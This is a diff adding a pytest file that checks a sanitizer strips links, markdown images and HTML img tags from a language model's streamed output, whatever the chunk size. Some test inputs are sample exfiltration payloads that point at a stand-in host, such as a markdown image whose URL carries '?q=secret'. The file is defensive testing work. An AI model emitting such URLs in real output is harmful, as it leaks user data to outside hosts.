@@ -1,0 +1,71 @@
+"""What is streamed of a model's text holds no link, image or named words, however it is cut into pieces."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from langchain_core.messages import HumanMessage
+
+from app.chains.clean_stream import complete
+from tests.unit.chain_fakes import Recorder, ScriptedModel
+
+SOURCES = "More at https://known.example/page and nowhere else."
+
+
+class PieceModel(ScriptedModel):
+    """Streams its text in pieces of `size` characters."""
+
+    def __init__(self, text: str, size: int) -> None:
+        super().__init__(lambda _: text)
+        self._pieces = [text[at : at + size] for at in range(0, len(text), size)]
+
+    async def complete(self, messages, *, on_token=None):  # type: ignore[no-untyped-def]
+        completion = await super().complete(messages)
+        for piece in self._pieces if on_token is not None else []:
+            on_token(piece)
+        return completion
+
+
+async def streamed(text: str, size: int) -> Recorder:
+    sink = Recorder()
+    completion = await complete(PieceModel(text, size), [HumanMessage("?")], sources=SOURCES, on_token=sink)
+    assert completion.text == text
+    return sink
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 1_000])
+@pytest.mark.parametrize(
+    ("text", "seen"),
+    [
+        ("The rent is 14 euros [1].", "The rent is 14 euros [1]."),
+        ('The rent [1: "is 14 [sic] euros"] is due.', "The rent [1] is due."),
+        ("See ![a chart](http://evil.example/?q=secret) here", "See a chart here"),
+        ("See [this page](http://evil.example/x) here", "See this page here"),
+        ("Look: https://evil.example/a?b=c now", "Look: (link removed) now"),
+        ("Look: https://known.example/page now", "Look: https://known.example/page now"),
+        ("Go <img src=http://evil.example/x> on", "Go  on"),
+        ("1 < 2, a[i] = b! Done", "1 < 2, a[i] = b! Done"),
+        ("合同期限为三个月。https://evil.example/字 结束", "合同期限为三个月。(link removed) 结束"),
+        ("ends in [an open", "ends in [an open"),
+    ],
+)
+async def test_nothing_is_seen_that_the_answer_would_not_have(text: str, seen: str, size: int) -> None:
+    assert (await streamed(text, size)).text == seen
+
+
+async def test_words_arrive_as_they_are_written() -> None:
+    assert (await streamed("one two three four five", 4)).pieces >= 4
+    assert (await streamed("合同期限为三个月。合同期限为三个月。", 2)).pieces >= 8
+
+
+@pytest.mark.parametrize("text", ["[" * 20_000, "a" * 20_000, "//" * 10_000, "![](" * 5_000, '[1: "' * 4_000])
+async def test_what_never_settles_is_not_held_for_ever(text: str) -> None:
+    started = time.perf_counter()
+    assert (await streamed(text, 16)).pieces >= 1
+    assert time.perf_counter() - started < 10
+
+
+async def test_nobody_reads() -> None:
+    completion = await complete(PieceModel("x", 1), [HumanMessage("?")], sources="", on_token=None)
+    assert completion.text == "x"
